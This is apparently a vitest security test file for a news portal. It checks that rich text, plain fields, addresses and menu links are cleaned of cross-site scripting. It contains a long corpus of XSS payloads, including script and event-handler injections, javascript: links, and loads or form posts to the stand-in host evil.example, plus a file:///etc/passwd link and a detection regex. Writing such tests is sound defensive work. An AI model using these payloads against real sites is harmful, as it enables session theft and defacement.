import { expect, test } from 'vitest'
import { onAnyEngine } from '../../testing/site.ts'

const NEWS = '/abp/services/app/News'

/** Attacks by rich text: each would run, frame, restyle or call out if it came through. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="/media/aaaaaaaaaaaaaaaaaaaaaaaa" onload=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="//evil.example 1x">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/ok" onclick="alert(1)">x</a>',
  '<a href="/ok" style="position:fixed;inset:0">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object>',
  '<embed src="x">',
  '<applet code="x"></applet>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example"</style>',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="//evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<div id="app" class="portal">x</div>',
  '<p id="page" name="body">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '</p></main></body></html><script>alert(1)</script>',
  '<p>ok</p\u0000><script>alert(1)</script>'.replace('\u0000', ''),
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '\u2028<script>alert(1)</script>',
  '<p onmouseover="alert(1)" onfocus=alert(1) tabindex=0>x</p>',
  '<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>',
  '<ol start="1;alert(1)"><li>x</li></ol>',
  '<x onclick=alert(1)>x</x>',
  '<p/onclick=alert(1)>x',
  '<<script>alert(1)//<</script>',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
]

/** Anything in a piece of HTML that a browser would run, frame, load from elsewhere or be restyled by. */
const LIVE =
  /<\/?(script|style|svg|math|iframe|object|embed|applet|base|meta|link|form|input|button|textarea|template|noscript|xmp|video|audio|source|details|marquee|body|html|title)\b|<[^>]*\s(on\w+|style|id|class|srcset|srcdoc|formaction|background|xlink:href|name)\s*=|(href|src)\s*=\s*"?\s*(javascript|vbscript|data|\/\/)|evil\.example/i

onAnyEngine('Scripts in content', (site) => {
  const publish = async (values: Record<string, unknown>) => {
    const row = (await site.post(`${NEWS}/Create`, values, 'editor')).body.result
    await site.post(`${NEWS}/Publish`, { id: row.id, version: 1 }, 'editor')
    return row
  }
  const article = (page: string) => /<article[\s\S]*<\/article>/.exec(page)?.[0] ?? ''

  test('nothing that is known to run in rich text is left in the row, in the reply or on the page', async () => {
    const left: unknown[] = []
    for (const evil of CORPUS) {
      const row = await publish({ title: '富文本', content: `<p>前</p>${evil}<p>后</p>`, contentEn: evil })
      const visitor = (await site.get(`/api/portal/news?id=${row.id}`)).body.result.content
      const english = (await site.get(`/api/portal/news?id=${row.id}`, undefined, { 'accept-language': 'en' })).body.result.content
      for (const html of [row.content, row.contentEn, visitor, english]) if (LIVE.test(html ?? '')) left.push([evil, html])
    }
    expect(left).toEqual([])
  })

  test('rich text that is already in the table is cleaned on the way out', async () => {
    const row = await publish({ title: '绕过', content: '<p>x</p>' })
    const all = CORPUS.join('')
    await site.database.write.updateTable('newsSnapshot').set({ content: all, contentEn: all }).where('rowId', '=', row.id).execute()
    const visitor = (await site.get(`/api/portal/news?id=${row.id}`)).body.result.content
    expect(visitor).not.toMatch(LIVE)
    const page = (await site.get(`/_newsdetail?id=${row.id}`)).body
    expect(page).toContain('绕过')
    expect(article(page)).not.toMatch(/<script|<[^>]*\son\w+=|evil\.example|javascript:/i)
  })

  test('honest rich text comes through whole', async () => {
    const picture = (await site.upload()).body.files.file
    const content = `<h2>标题</h2><p>一 <strong>粗</strong> <em>斜</em> <a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">外</a> <a href="/_news">内</a></p><ul><li>甲</li></ul><img src="${picture}" alt="图" width="600" height="300" /><table><tbody><tr><td colspan="2">格</td></tr></tbody></table>`
    const row = await publish({ title: '诚实', content })
    expect(row.content).toBe(content)
    expect((await site.get(`/api/portal/news?id=${row.id}`)).body.result.content).toBe(content)
  })

  test('plain fields are text wherever they are shown: title, summary, author, tags, category, search engine words', async () => {
    const evil = `"'><script>alert(1)</script><img src=x onerror=alert(1)>`
    const row = await publish({
      title: `甲${evil}`,
      summary: evil,
      author: evil.slice(0, 60),
      source: evil,
      tags: [evil],
      seoTitle: `乙${evil}`,
      seoDescription: `丙${evil}</title></script>`,
      content: '<p>x</p>',
      category: 'company',
    })
    expect(row.title).toBe(`甲${evil}`)
    for (const at of [`/_newsdetail?id=${row.id}`, '/_news', '/home', '/', '/rss.xml']) {
      const { body } = await site.get(at)
      expect([at, body.includes('甲') || body.includes('乙')]).toEqual([at, true])
      expect([at, body.includes('<script>alert'), body.includes('<img src=x')]).toEqual([at, false, false])
    }
    expect(article((await site.get(`/_newsdetail?id=${row.id}`)).body)).not.toContain('<script')
  })

  test('a text in the address is only text on the page', async () => {
    const evil = encodeURIComponent(`"'></script><script>alert(1)</script><img src=x onerror=alert(1)>`)
    for (const at of [
      `/_news?keyword=${evil}`,
      `/_news?category=${evil}`,
      `/_news?page=${evil}`,
      `/_newsdetail?id=${evil}`,
      `/_newsdetail?id=1&preview=${evil}`,
      `/${evil}`,
      `/_${evil}`,
      `/en/_news?keyword=${evil}`,
      `/?utm_source=${evil}`,
      `/login?redirect=${evil}`,
      `/abp/${evil}`,
      `/api/portal/news?id=${evil}`,
    ]) {
      const { body, headers } = await site.get(at)
      const text = typeof body === 'string' ? body : JSON.stringify(body)
      if (headers.get('content-type')?.includes('html')) expect([at, /<script>alert|<img src=x/.test(text)]).toEqual([at, false])
      expect(headers.get('x-content-type-options')).toBe('nosniff')
    }
  })

  test('an address in a link leads within the web: no script, no other scheme, no other host by stealth', async () => {
    for (const link of [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '//evil.example',
      '/\\evil.example',
      '\\\\evil.example',
      'file:///etc/passwd',
      'ftp://x',
      'x',
      '/a b',
      'http:/evil',
      '',
    ]) {
      expect([link, (await site.post('/abp/services/app/Navigation/Create', { name: 'x', link }, 'editor')).status]).toEqual([link, 400])
    }
    for (const link of ['/_news', '#top', 'https://example.com/a?b#c', 'mailto:a@example.com', 'tel:+86 10 1234']) {
      expect([link, (await site.post('/abp/services/app/Navigation/Create', { name: 'x', link }, 'editor')).status]).toEqual([link, 200])
    }
  })

  test('a menu entry cannot carry a script to an administrator', async () => {
    for (const url of ['javascript:alert(1)', ' JavaScript:alert(1)', 'java\tscript:alert(1)', 'data:text/html,x', 'vbscript:x']) {
      expect([url, (await site.post('/abp/services/app/Menu/Create', { text: 'x', url }, 'admin')).status]).toEqual([url, 400])
    }
    for (const url of ['https://example.com', '/_news', 'sitenews'])
      expect([url, (await site.post('/abp/services/app/Menu/Create', { text: 'x', url }, 'admin')).status]).toEqual([url, 200])
  })
})
